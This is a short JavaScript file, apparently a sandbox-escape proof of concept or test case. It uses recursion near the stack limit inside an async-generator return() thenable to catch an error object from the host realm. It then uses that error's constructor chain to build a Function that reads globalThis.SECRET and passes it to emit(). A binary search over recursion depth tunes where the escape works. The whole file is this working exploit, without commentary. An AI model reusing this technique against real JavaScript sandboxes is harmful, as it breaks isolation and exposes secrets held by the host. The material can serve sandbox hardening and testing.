class Own extends Error {}
const burn = (depth) => {
  if (depth > 0) burn(depth - 1);
  const error = new Own();
  error.stack;
  throw error;
};
const inner = {
  next: (value) => ({ value, done: false }),
  throw: (value) => ({ value, done: false }),
  [Symbol.asyncIterator]() { return this; },
};
async function* outer() { yield* inner; }
const grab = async (depth) => {
  try {
    const own = outer();
    await own.next();
    return (await own.return({ then(settle) { burn(depth); settle(); } })).value;
  } catch {
    return null;  // too deep
  }
};
const reach = (error) => {
  const secret = error ? error.constructor.constructor('return globalThis.SECRET')() : null;
  if (secret) emit(secret);
};
const search = async () => {
  let [low, high] = [0, 60000];
  while (low < high) {
    const middle = (low + high) >> 1;
    const error = await grab(middle);
    reach(error);
    [low, high] = error instanceof Own ? [middle + 1, high] : [low, middle];
  }
  for (let depth = low - 60; depth < low + 60; depth += 1) reach(await grab(depth));
};
at_step();
search();  // step
past_step();
